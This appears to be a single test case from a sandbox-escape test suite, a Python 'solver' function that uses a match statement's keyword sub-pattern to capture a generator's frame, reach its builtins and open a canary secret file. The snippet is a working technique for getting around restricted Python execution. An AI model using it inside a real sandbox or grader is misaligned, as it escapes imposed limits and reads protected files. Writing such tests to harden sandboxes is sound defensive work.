# x08_protocol_keyword_pattern [escape]: keyword sub-pattern reads a generator's frame
def solver(n1, n2):
    def g():
        yield 1

    match g():
        case object(gi_frame=f):
            return str(f.f_builtins["open"]("@CANARY@/secret.txt").read())
